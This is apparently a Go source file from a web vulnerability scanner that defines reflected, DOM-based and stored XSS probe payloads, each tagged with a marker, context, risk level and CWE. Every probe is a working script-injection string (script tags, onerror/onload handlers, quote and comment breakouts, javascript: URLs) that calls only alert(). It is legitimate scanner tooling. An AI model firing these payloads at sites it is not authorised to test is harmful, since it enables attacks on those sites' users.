package payloads

import (
	"fmt"

	"github.com/Rimaestro/vulnity-kp/pkg/finding"
)

// XSSReflectedProbes returns the reflected XSS probes. Every value
// embeds MarkerSlot inside the executable part, so detection can
// demand the marker in script or handler position rather than anywhere
// on the page.
func XSSReflectedProbes() []Payload {
	templates := []struct {
		value   string
		desc    string
		context Context
	}{
		{"<script>alert('%MARKER%')</script>", "script element", ContextHTML},
		{"<img src=x onerror=alert('%MARKER%')>", "img onerror handler", ContextHTML},
		{"<svg onload=alert('%MARKER%')>", "svg onload handler", ContextHTML},
		{"<body onload=alert('%MARKER%')>", "body onload handler", ContextHTML},
		{"\"><script>alert('%MARKER%')</script>", "attribute breakout into script", ContextHTML},
		{"'><script>alert('%MARKER%')</script>", "single quote breakout into script", ContextHTML},
		{"</script><script>alert('%MARKER%')</script>", "script element breakout", ContextHTML},
		{"<iframe src=\"javascript:alert('%MARKER%')\"></iframe>", "iframe javascript URL", ContextHTML},
		{"\" onmouseover=\"alert('%MARKER%')", "event handler injection", ContextAttribute},
		{"\" onfocus=\"alert('%MARKER%')", "onfocus handler injection", ContextAttribute},
		{"\" onerror=\"alert('%MARKER%')", "onerror handler injection", ContextAttribute},
		{"'-alert(\"%MARKER%\")-'", "string concatenation break", ContextJavaScript},
		{"\";alert(\"%MARKER%\");//", "statement break with comment", ContextJavaScript},
		{"*/alert(\"%MARKER%\")/*", "block comment break", ContextJavaScript},
		{"javascript:alert('%MARKER%')", "javascript scheme", ContextURL},
	}
	return buildXSS(templates, finding.StrategyReflected, "xss-reflected")
}

// XSSDOMProbes returns probes delivered through the fragment or query
// for client-side sinks. The fragment never reaches the server, so a
// hit proves client-side handling.
func XSSDOMProbes() []Payload {
	templates := []struct {
		value   string
		desc    string
		context Context
	}{
		{"<img src=x onerror=alert('%MARKER%')>", "fragment to innerHTML sink", ContextHTML},
		{"'\"><svg onload=alert('%MARKER%')>", "quote breakout to svg handler", ContextHTML},
		{"javascript:alert('%MARKER%')", "location sink scheme", ContextURL},
		{"';alert('%MARKER%')//", "eval sink statement break", ContextJavaScript},
	}
	return buildXSS(templates, finding.StrategyDOMBased, "xss-dom")
}

// XSSStoredProbes returns probes for persisted input: submitted once,
// looked for on the re-fetched page.
func XSSStoredProbes() []Payload {
	templates := []struct {
		value   string
		desc    string
		context Context
	}{
		{"<script>alert('%MARKER%')</script>", "persisted script element", ContextHTML},
		{"<img src=x onerror=alert('%MARKER%')>", "persisted img handler", ContextHTML},
		{"<svg/onload=alert('%MARKER%')>", "persisted svg handler, no spaces", ContextHTML},
	}
	return buildXSS(templates, finding.StrategyStored, "xss-stored")
}

func buildXSS(templates []struct {
	value   string
	desc    string
	context Context
}, strategy finding.Strategy, prefix string) []Payload {
	out := make([]Payload, 0, len(templates))
	for i, t := range templates {
		risk := finding.High
		if strategy == finding.StrategyStored {
			risk = finding.Critical
		}
		out = append(out, Payload{
			Name:        fmt.Sprintf("%s-%02d", prefix, i+1),
			Value:       t.value,
			Class:       finding.ClassXSS,
			Strategy:    strategy,
			Risk:        risk,
			Description: t.desc,
			CWE:         CWEXSS,
			Context:     t.context,
		})
	}
	return out
}
